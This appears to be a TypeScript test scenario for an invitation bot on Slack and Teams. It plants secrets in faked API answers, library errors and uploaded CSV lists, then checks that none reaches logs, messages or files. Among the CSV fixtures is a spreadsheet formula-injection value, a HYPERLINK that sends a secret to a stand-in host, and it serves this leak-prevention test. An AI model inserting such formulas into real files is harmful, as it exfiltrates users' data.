import type { Messenger } from "../../../src/app/core/messenger.ts";
import { AppError } from "../../../src/lib/errors.ts";
import type { Fault, Faults } from "../../../src/sandbox/fault.ts";
import { openStore } from "../../../src/store/store.ts";
import { must } from "../../support/must.ts";
import type { TestPerson } from "../../support/servers/slack.ts";
import { sees, sendForm, startWhole, type Whole } from "../../support/servers/whole.ts";
import { createAround, invitation, startedBot } from "../../support/world/bot.ts";
import { HOUR, MINUTE, SECOND } from "../../support/world/times.ts";
import { type Outcome, pick, type Scenario, summed } from "../scenario.ts";
import { begin, settle } from "../storm/setup.ts";
import { planting } from "./planted-secrets.ts";
import { secretsAtStart } from "./starts.ts";

const answer = (status: number, body: unknown, headers: Record<string, string> = {}): Fault => ({
  ...{ kind: "answer", status, body, headers },
});

/** Where in an answer somebody's secret can stand. */
const SHAPES: Record<string, (secret: string) => Fault> = {
  "Slack's word for an error": (secret) => answer(200, { ok: false, error: secret }),
  "the scope that is missing": (secret) => answer(200, { ok: false, error: "missing_scope", needed: secret }),
  "Teams' word for an error": (secret) => answer(403, { error: { code: secret, message: secret } }),
  "Teams' older word": (secret) => answer(400, { message: JSON.stringify({ subCode: secret }) }),
  "a message": (secret) => answer(400, { message: `refused for ${secret}`, code: secret }),
  "a detail": (secret) => answer(403, { detail: `x-api-key ${secret} may not` }),
  "a list of details": (secret) => answer(422, { detail: [{ msg: secret, input: secret }] }),
  "a page": (secret) => answer(502, `<html><pre>authorization: Bearer ${secret}</pre></html>`),
  "a redirect": (secret) => answer(302, "", { location: `https://elsewhere.example/?token=${secret}` }),
  "a header": (secret) => answer(500, {}, { "x-request": secret, "retry-after": "1" }),
  "a 429": (secret) => answer(429, { error: secret }, { "retry-after": "1" }),
};

/** All that the bot has sent, and all that is shown but what people typed. */
function shownBy({ slack, teams }: Whole): unknown {
  const { modals, homes, messages } = slack.state();
  const { dialogs, messages: inTeams } = teams.state();
  return [
    ...[modals, homes, messages, dialogs, inTeams.filter(({ author }) => author === null)],
    slack.calls().map(({ args }) => args),
    teams.calls().map(({ path, body }) => [path, body]),
  ];
}

/** Slack, Teams and Mistral quote secrets in whatever they answer, while Requests are approved and people look around. */
async function secretsInAnswers(seed: number, requests: number): Promise<Outcome> {
  const { path, log, random, plant, found, remove } = planting("answers", seed);
  const world = await startWhole({
    ...{ mode: "automatic", platforms: ["slack", "teams"], env: () => ({ DATABASE_PATH: path }), log },
  });
  const spoil = (name: string, faults: Faults) => {
    faults.take = () => (random() < 0.5 ? null : plant(name, SHAPES));
  };
  const { slack, teams, mistral } = world;
  try {
    await begin(world, ["slack"], settle(world, { requesters: 2 }));
    const [ana, chloe, tara] = [world.as("ana"), world.as("chloe"), world.inTeams("chloe")];
    await tara.command("help");
    for (let n = 0; n < requests; n += 1) {
      await chloe.command(`invite p${n}@lumen.example`, "#mistral");
      await sendForm(chloe, "Ask for invitations", {});
      while (chloe.modal() !== null) await chloe.close();
    }
    await world.settle();
    for (const [name, { faults }] of Object.entries({ slack, teams, mistral })) spoil(name, faults);
    for (let n = 0; n < requests; n += 1) {
      await ana.press("Approve", { in: "#mistral-approvals" }).catch(() => {});
      for (const person of [chloe, tara]) await person.command("status").catch(() => {});
      await world.later(MINUTE);
    }
    for (const { faults } of [slack, teams, mistral]) faults.take = () => null;
    await world.later(30 * MINUTE);
    return await found(world.bot.store, shownBy(world));
  } finally {
    await world.stop();
    remove();
  }
}

const FIELD = "Or a CSV file";
const PERSON = "p@lumen.example";

/** Where in a list that somebody gives a secret can stand: its name, and what is in it. */
const LISTS: Record<string, (secret: string) => readonly [name: string, text: string]> = {
  "the file's name": (secret) => [`${secret.replaceAll("/", "_")}.csv`, `email\n${PERSON}`],
  "a heading": (secret) => ["list.csv", `email;${secret}\n${PERSON};x`],
  "the heading of the addresses": (secret) => ["list.csv", `"e-mail [${secret}]"\n${PERSON}`],
  "a cell that nobody reads": (secret) => ["list.csv", `email;note\n${PERSON};${secret}`],
  "a cell for an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}`],
  "a name before an address": (secret) => ["list.csv", `email\n"${secret} <${PERSON}>"`],
  "an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}@lumen.example`],
  "a formula": (secret) => ["list.csv", `email\n${PERSON}\n"=HYPERLINK(""https://x.example/?k=${secret}"")"`],
  "a long cell": (secret) => ["list.csv", `email\n${PERSON}\n${"word ".repeat(120)}${secret}`],
  "no CSV": (secret) => ["list.csv", `PK\u0003\u0004\u0000${secret}`],
};

/** People give lists with secrets in them, and get the Record into a OneDrive whose address alone lets them write there. */
async function secretsInFiles(seed: number, rounds: number): Promise<Outcome> {
  const { path, log, plant, keptForAWhile, found, remove } = planting("files", seed);
  const world = await startWhole({
    ...{ mode: "guided", platforms: ["slack", "teams"], skips: true, log },
    env: () => ({ DATABASE_PATH: path }),
  });
  const [ana, chloe] = [world.as("ana"), world.as("chloe")];
  const [alsoAna, alsoChloe] = [world.inTeams("ana"), world.inTeams("chloe")];
  const seen: unknown[] = [];

  async function sent(person: Pick<TestPerson, "submit" | "modal" | "close">): Promise<void> {
    for (let times = 0; times < 2 && person.modal() !== null; times += 1) {
      seen.push(await person.submit().catch(() => null), person.modal());
      await world.settle();
    }
    for (let deep = 0; deep < 3; deep += 1) await person.close();
  }

  async function round(n: number): Promise<void> {
    const list = must(plant(n % 2 === 0 ? "slack" : "teams", LISTS));
    if (n % 2 === 0) {
      await chloe.command("invite", "#mistral");
      await sees(chloe.modal, FIELD);
      chloe.fill({ "E-mail addresses": "", [FIELD]: [...list] });
      await sent(chloe);
    } else {
      await alsoChloe.attach(...list);
      await world.settle();
      seen.push(alsoChloe.dm().at(-1));
      if (alsoChloe.buttons("dm").includes("Go on to the form")) {
        await alsoChloe.press("Go on to the form", { in: "dm" });
        await sent(alsoChloe);
      }
    }
    await world.later(65 * SECOND);
  }

  async function record(): Promise<void> {
    await alsoAna.command("record");
    await sees(() => alsoAna.buttons("dm"), "Send it as a file");
    await alsoAna.press("Send it as a file", { in: "dm" });
    await world.later(5 * SECOND);
    world.teams.faults.add({ path: "/upload", fault: { kind: "answer", status: 500, body: {} } });
    await alsoAna.answerFile(true);
    for (const { upload } of world.teams.state().drive ?? [])
      keptForAWhile("where a file was put", upload ?? "?");
    await world.later(65 * SECOND);
  }

  try {
    await begin(world, ["slack"], settle(world, { requesters: 2 }), false);
    await alsoAna.command("settings");
    await sees(() => ana.buttons("dm"), "Yes, that is me");
    await ana.press("Yes, that is me", { in: "dm" });
    await world.settle();
    for (let n = 0; n < rounds; n += 1) await round(n);
    await record();
    for (let hours = 0; hours < 3; hours += 1) await world.later(HOUR);
    return await found(world.bot.store, [seen, shownBy(world)]);
  } finally {
    await world.stop();
    remove();
  }
}

const with_ = (properties: object): Error => Object.assign(new Error("refused"), properties);

/** Where in what a library throws somebody's secret can stand. */
const ERRORS: Record<string, (secret: string) => unknown> = {
  "a message": (secret) => new Error(`refused: ${secret}`),
  "a cause": (secret) => new Error("refused", { cause: new Error(secret) }),
  "the cause of a cause": (secret) => new Error("a", { cause: new Error("b", { cause: { body: secret } }) }),
  "one of several": (secret) => new AggregateError([new Error(secret)], "refused"),
  headers: (secret) => with_({ config: { headers: { Authorization: `Bearer ${secret}` } } }),
  "raw headers": (secret) => with_({ request: { rawHeaders: ["Authorization", secret] } }),
  "a payload": (secret) => with_({ data: JSON.stringify({ token: secret }) }),
  "an address": (secret) => with_({ url: `https://slack.com/api/?token=${secret}&x=1` }),
  "the error's name": (secret) => with_({ name: secret }),
  "an error of ours": (secret) => new AppError("invalid", `Slack: ${secret}`, { detail: secret }),
  "what caused one of ours": (secret) =>
    new AppError("unavailable", "Slack: down", { cause: new Error(secret) }),
  "no error at all": (secret) => `refused ${secret}`,
};

/** Whatever the bot calls throws errors with secrets in them. */
async function secretsInErrors(seed: number, requests: number): Promise<Outcome> {
  const { path, log, random, plant, found, remove } = planting("errors", seed);
  const around = createAround();
  let fine = true;
  const through = (messenger: Messenger): Messenger =>
    new Proxy(messenger, {
      get(target, name, self) {
        const value: unknown = Reflect.get(target, name, self);
        if (typeof value !== "function") return value;
        return async (...args: unknown[]) => {
          if (!fine && random() < 0.5) throw plant("chat", ERRORS);
          return (await value.apply(target, args)) as unknown;
        };
      },
    });
  const store = openStore({ path, kind: "real", clock: () => around.clock.now, idGap: () => 0 });
  const bot = await startedBot({ store, log, around, both: true, through });
  const replies: unknown[] = [];
  try {
    fine = false;
    for (let n = 0; n < requests; n += 1) {
      const who = pick(random, [bot.as("chloe"), bot.inTeams("chloe"), bot.as(`new${n}`), bot.as("ben")]);
      replies.push(await who?.submit({ form: "invite" }, invitation(`p${n}@lumen.example`)));
      replies.push(await bot.approve(n + 1, "ana"));
      await bot.skip(HOUR);
    }
    fine = true;
    for (let n = 0; n < 24; n += 1) await bot.skip(HOUR);
    return await found(store, [bot.chat.messages, bot.teams.messages, [...bot.chat.homes], replies]);
  } finally {
    await bot.worker.stop(1000);
    store.close();
    remove();
  }
}

const secrets: Scenario = {
  name: "secrets",
  about: "a secret in an answer, an error, a list or a file is in no file, no line of the log and no message",
  run: async ({ seed, of }) =>
    summed([
      await secretsInAnswers(seed, of(150, 3)),
      await secretsInErrors(seed, of(120, 12)),
      await secretsInFiles(seed, of(200, 10)),
    ]),
  atLeast: {
    ...{ "places and kinds in answers": [200, 8], "places and kinds in errors": [60, 10] },
    "places and kinds in files": [60, 6],
    "lines of the log": [300, 1],
  },
};

/** Starting the built program so often takes too long for `npm test`. */
export const secretsOnStreams: Scenario = {
  name: "secrets-at-start",
  about: "a secret in a variable is on no stream of a start that is refused",
  run: ({ seed }) => secretsAtStart(seed),
  atLeast: { "variables and kinds at a start": [100, 100] },
};

export const SECRETS: readonly Scenario[] = [secrets];
